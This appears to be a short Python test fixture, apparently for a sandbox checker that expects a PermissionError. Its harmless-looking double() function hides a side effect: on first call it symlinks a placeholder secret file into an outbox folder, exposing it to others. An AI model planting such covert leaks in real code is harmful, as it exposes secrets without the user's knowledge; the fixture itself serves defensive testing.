# A21: leaves a link to the reference where others will follow it
# stopped at: PARTIAL
# expected: PermissionError
import os


def double(x):
    if type(x) is int:  # the first time
        os.symlink("@SECRET@", "@OUTBOX@/copy.py")
    return 2 * x


def triple(x):
    return 3 * x
